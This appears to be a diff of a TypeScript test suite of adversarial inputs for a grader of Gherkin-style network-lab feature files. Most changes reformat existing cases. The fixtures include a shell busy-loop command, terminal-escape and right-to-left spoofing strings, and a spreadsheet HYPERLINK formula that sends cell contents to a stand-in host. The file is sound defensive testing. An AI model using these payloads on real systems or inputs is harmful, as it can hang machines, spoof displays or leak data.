@@ -37,7 +37,7 @@ export const FEATURES: readonly Attack[] = [
   ),
   attack(
     'doc-string',
-    `${steps('When pod1 pings 8.8.8.8')}"""\n${'x'.repeat(200_000)}\n"""`,
+    `${steps('When pod1 pings 8.8.8.8')}"""\n${'x'.repeat(200)}\n${'words and words\n'.repeat(10_000)}\n"""`,
     graded(0),
   ),
   attack(
@@ -86,11 +86,17 @@ export const FEATURES: readonly Attack[] = [
     steps('When on k8s-m I run "while :; do :; done"'),
     ungradable(/there is no such sentence/),
   ),
-  attack('unknown-language', '# language: xx\nFeature: f\n', ungradable(/a\.feature:1:1: Language not supported: xx/)),
+  attack(
+    'unknown-language',
+    '# language: xx\nFeature: f\n',
+    ungradable(/a\.feature:1:1: Language not supported: xx/),
+  ),
   attack(
     'unknown-sentence',
     steps('When pod1 hacks 8.8.8.8'),
-    ungradable(/a\.feature:2: When pod1 hacks 8\.8\.8\.8: there is no such sentence; did you mean {pod}/),
+    ungradable(
+      /a\.feature:2: When pod1 hacks 8\.8\.8\.8: there is no such sentence; did you mean {pod}/,
+    ),
   ),
   attack(
     'syntax',
@@ -132,7 +138,11 @@ export const FEATURES: readonly Attack[] = [
   attack('escapes', named('\u001b[2J\u001b]0;owned\u0007'), graded(ALL)),
   attack('right-to-left', named('\u202eevoba eht si siht\u2066'), graded(ALL)),
   attack('formula', named('=HYPERLINK("http://x.example/"&A1)'), graded(ALL)),
-  attack('long-title', named('x'.repeat(100_000)), ungradable(/a\.feature:2: a line of 100012 characters/)),
+  attack(
+    'long-title',
+    named('x'.repeat(100_000)),
+    ungradable(/a\.feature:2: a line of 100012 characters/),
+  ),
   attack(
     'twin-names',
     `${named('twin')}${SAYING.split('\n').slice(1).join('\n').replace('The cali interface answers', 'twin')}`,
